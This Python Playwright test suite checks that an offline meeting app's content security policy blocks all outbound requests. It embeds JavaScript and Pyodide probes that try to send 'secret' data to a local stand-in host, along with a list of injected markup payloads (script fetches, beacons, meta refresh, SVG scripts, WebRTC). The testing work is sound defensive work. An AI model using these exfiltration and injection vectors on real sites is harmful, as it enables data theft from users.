"""Nothing leaves the device: neither the page, nor the worker's JavaScript, nor Python in it can reach another origin.

A second host on this machine counts what it gets. It must get nothing, on the very first visit, which no service worker
sees, and later. The attempts themselves are proven on a page without our policy, where the same host gets them all.

The files that go out are opened from the disk, where no host says anything: what is typed in them is words, and what
somebody writes into them as markup meets the policy that each brings along. What no policy refuses (a script that runs
in spite of it goes to another address, or calls by WebRTC) is told in `docs/threat-model.md`.
"""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from building import distribution
from sos_core.contributions.contribution import Contribution
from sos_core.copies import Copy
from sos_core.files import write_json
from sos_core.language import Language
from sos_core.model.conclusions import Audience
from sos_core.model.meanings import Means, changed
from sos_core.model.meeting import Meeting
from sos_core.record import Telling, render
from sos_core.report_page import render_contribution
from tests.attacks.payloads import fields, rounds
from tests.attacks.test_payloads import CHILD, WHOLE, one_report
from tests.browser.conftest import wait_until_ready
from tests.browser.watching import Watch
from tests.static_host import StaticHost

IN_JAVASCRIPT = """async (other) => {
  const tried = {};
  const attempt = async (name, deed) => {
    try { tried[name] = String(await Promise.race([deed(), new Promise((go) => setTimeout(go, 1500, "silence"))])); }
    catch (error) { tried[name] = `refused: ${error.name}`; }
  };
  const ended = (target) => new Promise((go, stop) => { target.onload = target.onopen = go; target.onerror = stop; });
  await attempt("fetch", () => fetch(other + "fetch?secret=1", { mode: "no-cors" }));
  await attempt("fetch-post", () => fetch(other + "post", { method: "POST", mode: "no-cors", body: "secret" }));
  await attempt("fetch-keepalive", () => fetch(other + "keepalive", { keepalive: true, mode: "no-cors" }));
  await attempt("xhr", () => {
    const request = new XMLHttpRequest();
    request.open("GET", other + "xhr");
    request.send();
    return ended(request);
  });
  await attempt("socket", () => ended(new WebSocket(other.replace("http", "ws") + "socket")));
  await attempt("events", () => ended(new EventSource(other + "events")));
  await attempt("module", () => import(other + "module.js"));
  await attempt("worker", () => ended(new Worker(other + "worker.js")));
  if (globalThis.importScripts) await attempt("importScripts", () => importScripts(other + "imported.js"));
  if (globalThis.document) {
    await attempt("beacon", () => navigator.sendBeacon(other + "beacon", "secret"));
    for (const [name, tag, address] of [
      ["image", "img", "src"], ["frame", "iframe", "src"], ["video", "video", "src"], ["object", "object", "data"],
      ["style", "link", "href"], ["prefetch", "link", "href"], ["icon", "link", "href"], ["manifest", "link", "href"],
      ["preload", "link", "href"], ["script", "script", "src"],
    ]) {
      await attempt(name, () => {
        const element = document.createElement(tag);
        if (tag === "link") element.rel = name === "style" ? "stylesheet" : name;
        if (name === "preload") element.as = "image";
        element[address] = other + name;
        document.body.append(element);
        return ended(element);
      });
    }
    await attempt("form", () => {
      const form = Object.assign(document.createElement("form"), { method: "post", action: other + "form" });
      form.target = "nowhere";
      document.body.append(form);
      form.submit();
    });
    await attempt("ping", () => {
      const link = Object.assign(document.createElement("a"), { href: "#x", ping: other + "ping" });
      document.body.append(link);
      link.click();
    });
    await attempt("form-away", () => {
      const form = Object.assign(document.createElement("form"), { action: other + "form-away", target: "_blank" });
      document.body.append(form);
      form.requestSubmit();
    });
    for (const tag of ["image", "feImage", "script"]) {
      await attempt(`svg-${tag}`, () => {
        const [svg, element] = ["svg", tag].map((name) => document.createElementNS("http://www.w3.org/2000/svg", name));
        element.setAttribute("href", `${other}svg-${tag}`);
        svg.append(element);
        document.body.append(svg);
        return ended(element);
      });
    }
    await attempt("adopted-style", () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { list-style-image: url("${other}adopted") }`);
      document.adoptedStyleSheets = [sheet];
    });
    await attempt("imported-style", () => {
      const style = document.createElement("style");
      style.textContent = `@import url("${other}imported-style");`;
      document.body.append(style);
    });
    await attempt("inline-style", () => {
      const style = document.createElement("style");
      style.textContent = `body { background: url("${other}background") }`;
      document.body.append(style);
    });
  }
  await attempt("eval", () => (0, eval)(`fetch("${other}eval", { mode: "no-cors" })`));
  const code = "return fetch(other, { mode: 'no-cors' })";
  await attempt("function", () => new Function("other", code)(other + "function"));
  return tried;
}"""

IN_PYTHON = """

async def _probe():
    import asyncio
    import json

    import js
    from pyodide.ffi import to_js

    other = {other!r}
    tried = {{}}

    def options(**values):
        return to_js(values, dict_converter=js.Object.fromEntries)

    async def attempt(name, deed):
        try:
            made = deed()
            if hasattr(made, "__await__"):
                made = await asyncio.wait_for(made, 2)
            tried[name] = str(made)
        except BaseException as error:
            tried[name] = f"refused: {{type(error).__name__}}"

    def xhr():
        request = js.XMLHttpRequest.new()
        request.open("GET", other + "python-xhr", False)
        request.send()
        return request.status

    def by_socket():
        import socket

        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
            connection.sendall(b"GET /python-socket HTTP/1.0\\r\\n\\r\\n")
            return connection.recv(10)

    def pyfetched():
        from pyodide.http import pyfetch

        return pyfetch(other + "python-pyfetch", mode="no-cors")

    def by_package():
        import pyodide_js

        return pyodide_js.loadPackage(other + "python_package-1-py3-none-any.whl")

    get, post = options(mode="no-cors"), options(mode="no-cors", method="POST", body="secret")
    await attempt("fetch", lambda: js.fetch(other + "python-fetch", get))
    await attempt("post", lambda: js.fetch(other + "python-post", post))
    await attempt("pyfetch", pyfetched)
    await attempt("xhr", xhr)
    await attempt("websocket", lambda: js.WebSocket.new(other.replace("http", "ws") + "python-websocket"))
    await attempt("events", lambda: js.EventSource.new(other + "python-events"))
    await attempt("worker", lambda: js.Worker.new(other + "python-worker.js"))
    await attempt("importScripts", lambda: js.importScripts(other + "python-imported.js"))
    await attempt("eval", lambda: js.eval("1"))
    await attempt("socket", by_socket)
    await attempt("package", by_package)
    await asyncio.sleep(1)
    print("PROBED " + json.dumps(tried))


import asyncio as _asyncio

_probing = _asyncio.ensure_future(_probe())
"""


@pytest.fixture
def other(tmp_path: Path) -> Iterator[StaticHost]:
    """Another origin: what it gets, it would have learnt."""
    folder = tmp_path / "other"
    folder.mkdir()
    with StaticHost(folder) as host:
        yield host


def refused(tried: dict[str, str]) -> bool:
    """Where a refusal can be seen by the one who tries, it was."""
    seen = ("fetch", "fetch-post", "xhr", "module", "script", "image", "style", "eval", "function")
    return all("refused" in tried[name] for name in seen if name in tried)


def test_the_attempts_reach_the_other_host_where_no_policy_stands(
    page: Page, other: StaticHost, tmp_path: Path, watch: Watch
) -> None:
    watch.allow(".")
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "index.html").write_text("<!doctype html><title>Plain</title><body>")
    with StaticHost(plain) as host:
        page.goto(host.address)
        page.evaluate(IN_JAVASCRIPT, other.address)
        end = time.monotonic() + 10
        wanted = {"/fetch", "/xhr", "/socket", "/events", "/module.js", "/image", "/frame", "/style", "/script"}
        wanted |= {"/eval", "/function", "/background", "/object", "/video", "/prefetch", "/preload", "/keepalive"}
        wanted |= {"/svg-image", "/svg-script", "/imported-style"}
        while not wanted <= set(other.requests) and time.monotonic() < end:
            page.wait_for_timeout(100)
        assert wanted <= set(other.requests)


@pytest.mark.parametrize("visit", ["first", "later"])
def test_neither_the_page_nor_the_workers_javascript_reaches_another_origin(
    page: Page, server: StaticHost, other: StaticHost, watch: Watch, visit: str
) -> None:
    watch.allow(".")
    page.goto(server.address)
    wait_until_ready(page)
    if visit == "later":
        expect(page.locator("#offline")).to_contain_text("Works without a network")
        page.goto(server.address)
        wait_until_ready(page)
        assert page.evaluate("navigator.serviceWorker.controller !== null")
    in_page: dict[str, str] = page.evaluate(IN_JAVASCRIPT, other.address)
    (worker,) = page.workers
    in_worker: dict[str, str] = worker.evaluate(IN_JAVASCRIPT, other.address)
    page.wait_for_timeout(1000)
    assert other.requests == []
    assert len(in_page) > 20
    assert len(in_worker) > 9
    assert refused(in_page), in_page
    assert refused(in_worker), in_worker


def test_python_in_the_worker_does_not_reach_another_origin(
    page: Page, other: StaticHost, watch: Watch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the real build, only that `start.py` tries all it can right after the board has started."""
    watch.allow(".")
    port = int(other.address.rstrip("/").rpartition(":")[2])
    shipped = distribution.client_files

    def with_probe() -> dict[str, bytes]:
        files = shipped()
        files["start.py"] += IN_PYTHON.format(other=other.address, port=port).encode()
        return files

    monkeypatch.setattr(distribution, "client_files", with_probe)
    distribution.write(distribution.distribution(), tmp_path / "probing")
    probed: list[dict[str, Any]] = []

    def listen(message: ConsoleMessage) -> None:
        if message.text.startswith("PROBED "):
            probed.append(json.loads(message.text.removeprefix("PROBED ")))

    page.on("console", listen)
    with StaticHost(tmp_path / "probing") as host:
        for visit in ("first", "later"):
            page.goto(host.address)
            wait_until_ready(page)
            end = time.monotonic() + 30
            while not probed and time.monotonic() < end:
                page.wait_for_timeout(100)
            assert probed, f"Python did not tell what came of its attempts ({visit} visit)."
            tried = probed.pop()
            assert len(tried) == 11
            for name in ("fetch", "pyfetch", "post", "xhr", "importScripts", "eval", "socket"):
                assert "refused" in tried[name], tried
            assert other.requests == []
            if visit == "first":
                expect(page.locator("#offline")).to_contain_text("Works without a network")


TYPED: Final = (
    '<meta http-equiv="refresh" content="0;url=OTHERrefresh">',
    '<link rel="stylesheet" href="OTHERstyle">',
    '<link rel="preconnect" href="OTHER"><link rel="dns-prefetch" href="OTHER">',
    '<link rel="prefetch" href="OTHERprefetch"><link rel="preload" as="image" href="OTHERpreload">',
    '<style>@import url("OTHERimported");</style>',
    '<style>* { background: url("OTHERbackground") }</style>',
    '<p style="background: url(OTHERattribute)">x</p>',
    '<img src="OTHERimage" srcset="OTHERset 2x">',
    '<svg><image href="OTHERsvg-image"/><use href="OTHERsvg-use#x"/></svg>',
    '<svg><script href="OTHERsvg-script"></script></svg>',
    '<svg><style>@import url("OTHERsvg-imported");</style></svg>',
    '<script src="OTHERscript"></script>',
    '<script>open("OTHERopened"); location = "OTHERlocation"</script>',
    '<script>navigator.sendBeacon("OTHERbeacon", "x"); new EventSource("OTHERevents")</script>',
    '<script>fetch("OTHERfetch", { mode: "no-cors" }); new WebSocket("OTHERsocket")</script>',
    '<script>new RTCPeerConnection({ iceServers: [{ urls: "stun:PLACE" }] })</script>',
    '<iframe src="OTHERframe"></iframe><object data="OTHERobject"></object>',
    '<video src="OTHERvideo" poster="OTHERposter"></video><audio src="OTHERaudio"></audio>',
    '<form action="OTHERform" target="_blank"><button autofocus>x</button></form>',
    '<input type="image" src="OTHERinput"><body background="OTHERbody">',
    '<base href="OTHER"><a href="x" ping="OTHERping">x</a>',
)
"""What asks for something from elsewhere as soon as it is markup."""
ONLY_WORDS: Final = frozenset({TYPED[0]})
"""What no policy has a word for: as markup it is obeyed. Whoever could write it could leave the policy out, too."""
ASKED: Final = {"style", "prefetch", "imported", "background", "attribute", "image", "script", "beacon", "fetch"}
ASKED |= {"frame", "object", "video", "poster", "input", "svg-image", "svg-script", "svg-imported", "form"}
"""What it asks for where no policy stands."""


class Listening:
    """A place that nobody has a reason to call. Whoever does is noted, also where they say nothing."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._calls, self._packets = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._calls.bind(("127.0.0.1", 0))
        self.place = f"127.0.0.1:{self._calls.getsockname()[1]}"
        self._packets.bind(self._calls.getsockname())
        self._calls.listen(100)
        for listen in (self._taken, self._received):
            threading.Thread(target=listen, daemon=True).start()

    def typed(self, *, without: frozenset[str] = frozenset()) -> list[str]:
        address = f"http://{self.place}/"
        kept = [text for text in TYPED if text not in without]
        return [text.replace("OTHER", address).replace("PLACE", self.place) for text in kept]

    @property
    def paths(self) -> set[str]:
        return {said.split(b" ")[1].decode()[1:].partition("?")[0] for said in self.heard if said.count(b" ") > 1}

    def _taken(self) -> None:
        with suppress(OSError):
            while True:
                call, _ = self._calls.accept()
                call.settimeout(1)
                try:
                    self.heard.append(call.recv(2_000))
                except OSError:
                    self.heard.append(b"")
                call.close()

    def _received(self) -> None:
        with suppress(OSError):
            while True:
                self.heard.append(self._packets.recv(2_000))

    def close(self) -> None:
        for one in (self._calls, self._packets):
            with suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


@pytest.fixture
def listening() -> Iterator[Listening]:
    made = Listening()
    yield made
    made.close()


def hostile(listening: Listening) -> Meeting:
    """One that has each of these in a text of its own, many times over."""
    assert len(fields(WHOLE)) > 3 * len(TYPED)
    meeting, _ = next(iter(rounds(WHOLE, listening.typed())))
    return meeting


def going_out(meeting: Meeting) -> dict[str, str]:
    """Each sort of file that people open."""
    t, whole = Language(), Copy(meeting, Audience.WHOLE)
    report = changed(one_report(), lambda _: meeting.statements[0].text, Means.TEXT)
    assert isinstance(report, Contribution)
    return {
        **{f"{telling}": render(whole, t, telling) for telling in Telling},
        "child": render(Copy(meeting, Audience.CHILD, reader=CHILD), t),
        "report": render_contribution(report, t),
    }


def test_what_is_typed_asks_nobody_for_anything_in_a_file_that_is_opened(
    page: Page, listening: Listening, tmp_path: Path
) -> None:
    for name, text in going_out(hostile(listening)).items():
        assert listening.place in text
        file = tmp_path / f"{name}.html"
        file.write_text(text, "utf-8", newline="\n")
        page.goto(file.as_uri())
        page.wait_for_timeout(300)
        assert page.url == file.as_uri()
    assert listening.heard == []
    assert len(page.context.pages) == 1


def test_what_somebody_writes_into_a_file_as_markup_is_refused_by_its_own_policy(
    page: Page, listening: Listening, watch: Watch, tmp_path: Path
) -> None:
    watch.allow(".")
    markup = "".join(listening.typed(without=ONLY_WORDS))

    def opened(text: str, name: str) -> None:
        file = tmp_path / f"{name}.html"
        file.write_text(text, "utf-8", newline="\n")
        page.goto(file.as_uri(), wait_until="commit")
        page.locator("form[target=_blank]").first.evaluate("(form) => form.submit()")
        page.wait_for_timeout(1_500)

    for name, text in going_out(WHOLE).items():
        assert text.count("</body>") == 1
        opened(text.replace("</body>", f"{markup}</body>"), name)
        # For a frame and a form the browser calls before it asks the policy, and then says nothing.
        assert not any(listening.heard), (name, listening.heard)
    # A script that goes elsewhere at once would be the only one to do anything.
    still = markup.replace("location =", "0,")
    opened(f"<!doctype html><title>Open</title><body>{still}", "open")
    end = time.monotonic() + 20
    while not listening.paths >= ASKED and time.monotonic() < end:
        page.wait_for_timeout(100)
    assert listening.paths >= ASKED, ASKED - listening.paths


def test_a_meeting_that_is_brought_in_asks_nobody_for_anything_on_the_board(
    page: Page, server: StaticHost, listening: Listening, tmp_path: Path
) -> None:
    file = tmp_path / "meeting.json"
    file.write_text(write_json(Copy(hostile(listening), Audience.WHOLE)), "utf-8")
    page.goto(server.address)
    wait_until_ready(page)
    page.get_by_label("Choose a file").set_input_files(file)
    page.get_by_role("button", name="Put it on this device").click()
    page.get_by_role("navigation").get_by_role("button").first.wait_for()
    for part in page.get_by_role("navigation").get_by_role("button").all():
        part.click()
        page.wait_for_timeout(200)
    with page.expect_popup() as popup:
        page.get_by_role("button", name="Projector", exact=True).click()
    popup.value.locator("body[data-wall=shown]").wait_for()
    popup.value.wait_for_timeout(300)
    assert listening.heard == []
    assert len(page.context.pages) == 2
